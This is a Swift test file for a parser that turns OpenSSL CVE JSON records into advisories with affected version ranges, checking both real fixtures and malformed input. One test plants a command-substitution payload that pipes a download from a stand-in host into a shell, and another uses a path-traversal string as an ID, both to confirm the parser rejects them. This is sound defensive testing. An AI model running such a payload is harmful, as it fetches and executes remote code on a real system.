import Foundation
import Testing

@testable import OSSLWatch
@testable import OSSLWatchCore

struct CVERecordParserTests {
    static let ids = [
        "CVE-2025-9230", "CVE-2025-9231", "CVE-2025-9232", "CVE-2026-34182", "CVE-2026-45447", "CVE-2026-7383",
    ]

    static func data(_ id: String) throws -> Data {
        try FeedFixtures.data("openssl-release-metadata/secjson/\(id).json")
    }

    static func parse(_ data: Data) throws(FeedError) -> FeedContent {
        try CVERecordParser().parse(data, contentType: "text/plain; charset=utf-8", feed: "cve")
    }

    static func v(_ text: String) -> OpenSSLVersion { OpenSSLVersion.parse(bare: text)! }

    /// The fixture as a mutable JSON object, for hostile variants of a real record.
    static func object(_ id: String = "CVE-2025-9230") throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: data(id)) as? [String: Any])
    }

    static func encode(_ object: [String: Any]) throws -> Data {
        try JSONSerialization.data(withJSONObject: object)
    }

    @Test(arguments: ids)
    func everyRealRecordParsesWithItsRanges(id: String) throws {
        let content = try Self.parse(try Self.data(id))
        let advisory = try #require(content.advisories.first)
        #expect(content.advisories.count == 1)
        #expect(advisory.cve == id)
        #expect(!advisory.title.isEmpty)
        #expect(advisory.severity != nil)
        #expect(advisory.published != nil)
        #expect(!advisory.affected.isEmpty)
        #expect(advisory.affected.allSatisfy { range in range.fixed.map { $0 > range.introduced } ?? false })
        #expect(advisory.affected.allSatisfy { range in range.fixed?.series == range.introduced.series })
        #expect(advisory.fixedIn.isEmpty)
    }

    @Test func cve20259230HasSevenRangesIncludingLetterReleases() throws {
        let advisory = try #require(try Self.parse(try Self.data("CVE-2025-9230")).advisories.first)
        #expect(advisory.title == "Out-of-bounds read & write in RFC 3211 KEK Unwrap")
        #expect(advisory.severity == .moderate)
        #expect(advisory.published == FeedFixtures.utcDate("2025-09-30T14:00:00Z"))
        #expect(advisory.affected.count == 7)
        #expect(advisory.affected.first == AffectedRange(introduced: Self.v("3.5.0"), fixed: Self.v("3.5.4")))
        #expect(advisory.affected.contains(AffectedRange(introduced: Self.v("1.1.1"), fixed: Self.v("1.1.1zd"))))
        #expect(advisory.affected.contains(AffectedRange(introduced: Self.v("1.0.2"), fixed: Self.v("1.0.2zm"))))
        #expect(advisory.affected[0].contains(Self.v("3.5.3")))
        #expect(!advisory.affected[0].contains(Self.v("3.5.4")))
    }

    @Test func severitiesOfTheRealRecords() throws {
        let severities = try Self.ids.map { id in try Self.parse(try Self.data(id)).advisories.first?.severity }
        #expect(severities == [.moderate, .moderate, .low, .moderate, .high, .low])
    }

    @Test func cve20259232RangesStartAtTheReleaseThatIntroducedIt() throws {
        let advisory = try #require(try Self.parse(try Self.data("CVE-2025-9232")).advisories.first)
        #expect(advisory.affected.contains(AffectedRange(introduced: Self.v("3.0.16"), fixed: Self.v("3.0.18"))))
        #expect(advisory.severity == .low)
    }

    @Test func lessThanOrEqualUnaffectedAndGitEntries() throws {
        var record = try Self.object()
        var containers = record["containers"] as! [String: Any]
        var cna = containers["cna"] as! [String: Any]
        cna["affected"] = [
            [
                "product": "OpenSSL",
                "versions": [
                    ["version": "3.4.0", "lessThanOrEqual": "3.4.2", "status": "affected", "versionType": "semver"],
                    ["version": "3.3.0", "status": "unaffected", "versionType": "semver"],
                    ["version": "abc123", "lessThan": "def456", "status": "affected", "versionType": "git"],
                    ["version": "3.2.1", "status": "affected", "versionType": "semver"],
                ],
            ],
            ["product": "OpenSSL FIPS provider", "versions": [["version": "weird", "status": "affected"]]],
        ]
        containers["cna"] = cna
        record["containers"] = containers
        let advisory = try #require(try Self.parse(try Self.encode(record)).advisories.first)
        #expect(
            advisory.affected == [
                AffectedRange(introduced: Self.v("3.4.0"), fixed: nil, lastAffected: Self.v("3.4.2")),
                AffectedRange(introduced: Self.v("3.2.1"), fixed: nil, lastAffected: Self.v("3.2.1")),
            ])
        #expect(advisory.affected[0].contains(Self.v("3.4.2")) && !advisory.affected[0].contains(Self.v("3.4.3")))
    }

    @Test func rejectedRecordYieldsNothing() throws {
        var record = try Self.object()
        var metadata = record["cveMetadata"] as! [String: Any]
        metadata["state"] = "REJECTED"
        record["cveMetadata"] = metadata
        #expect(try Self.parse(try Self.encode(record)).advisories.isEmpty)
    }

    @Test func shellShapedVersionFailsTheRecord() throws {
        for field in ["version", "lessThan"] {
            var record = try Self.object()
            var containers = record["containers"] as! [String: Any]
            var cna = containers["cna"] as! [String: Any]
            var affected = cna["affected"] as! [[String: Any]]
            var versions = affected[0]["versions"] as! [[String: Any]]
            versions[0][field] = "3.5.4$(curl evil.example|sh)"
            affected[0]["versions"] = versions
            cna["affected"] = affected
            containers["cna"] = cna
            record["containers"] = containers
            let body = try Self.encode(record)
            let error = FeedFixtures.expectError(.unexpectedShape) { () throws(FeedError) in try Self.parse(body) }
            #expect(error?.message.contains(field) == true)
        }
    }

    @Test func cveIdThatIsNotACVEIdFailsTheRecord() throws {
        for id in ["CVE-2025-92", "../../etc/passwd", "CVE-2025-9230\n", "cve-2025-9230", ""] {
            var record = try Self.object()
            var metadata = record["cveMetadata"] as! [String: Any]
            metadata["cveId"] = id
            record["cveMetadata"] = metadata
            let body = try Self.encode(record)
            FeedFixtures.expectError(.unexpectedShape) { () throws(FeedError) in try Self.parse(body) }
        }
    }

    @Test func wrongJSONTypesFailTheRecord() throws {
        let mutations: [(inout [String: Any]) -> Void] = [
            { $0["cveMetadata"] = "CVE-2025-9230" },
            { $0["cveMetadata"] = ["cveId": 9230, "state": "PUBLISHED"] },
            { $0["containers"] = [1, 2, 3] },
            { record in
                var containers = record["containers"] as! [String: Any]
                var cna = containers["cna"] as! [String: Any]
                cna["title"] = ["not", "a", "string"]
                containers["cna"] = cna
                record["containers"] = containers
            },
            { record in
                var containers = record["containers"] as! [String: Any]
                var cna = containers["cna"] as! [String: Any]
                cna["affected"] = ["versions": "3.5.0"]
                containers["cna"] = cna
                record["containers"] = containers
            },
            { record in
                var containers = record["containers"] as! [String: Any]
                var cna = containers["cna"] as! [String: Any]
                cna["affected"] = [["versions": [["version": 3.5, "status": "affected"]]]]
                containers["cna"] = cna
                record["containers"] = containers
            },
        ]
        for mutate in mutations {
            var record = try Self.object()
            mutate(&record)
            let body = try Self.encode(record)
            FeedFixtures.expectError(.unexpectedShape) { () throws(FeedError) in try Self.parse(body) }
        }
        FeedFixtures.expectError(.unexpectedShape) { () throws(FeedError) in try Self.parse(Data("[]".utf8)) }
        FeedFixtures.expectError(.unexpectedShape) { () throws(FeedError) in try Self.parse(Data("{}".utf8)) }
    }

    @Test func truncatedHugeAndMisencodedRecordsAreRefused() throws {
        let data = try Self.data("CVE-2025-9230")
        FeedFixtures.expectError(.malformed) { () throws(FeedError) in try Self.parse(data.prefix(data.count / 2)) }
        FeedFixtures.expectError(.malformed) { () throws(FeedError) in try Self.parse(Data()) }
        let huge = Data(repeating: 0x20, count: 17 << 20)
        FeedFixtures.expectError(.tooLarge) { () throws(FeedError) in try Self.parse(huge) }
        let text = String(decoding: data, as: UTF8.self)
        let utf16 = try #require(text.data(using: .utf16))
        FeedFixtures.expectError(.encoding) { () throws(FeedError) in try Self.parse(utf16) }
        let utf16le = try #require(text.data(using: .utf16LittleEndian))
        FeedFixtures.expectError(.encoding) { () throws(FeedError) in try Self.parse(utf16le) }
        let latin1 = try #require(text.replacingOccurrences(of: "Stanislav", with: "Stéphane").data(using: .isoLatin1))
        FeedFixtures.expectError(.encoding) { () throws(FeedError) in try Self.parse(latin1) }
        let bom = Data([0xEF, 0xBB, 0xBF]) + data
        #expect(try Self.parse(bom).advisories.count == 1)
    }

    @Test func tenMebibyteTitleIsTooLarge() throws {
        var record = try Self.object()
        var containers = record["containers"] as! [String: Any]
        var cna = containers["cna"] as! [String: Any]
        cna["title"] = String(repeating: "T", count: 10 << 20)
        containers["cna"] = cna
        record["containers"] = containers
        let body = try Self.encode(record)
        FeedFixtures.expectError(.tooLarge) { () throws(FeedError) in try Self.parse(body) }
    }

    @Test func deeplyNestedJSONIsAFeedErrorNotACrash() {
        let body = Data((String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)).utf8)
        do {
            _ = try Self.parse(body)
            Issue.record("expected a FeedError")
        } catch {
            #expect(error.code == .malformed || error.code == .unexpectedShape)
        }
    }
}
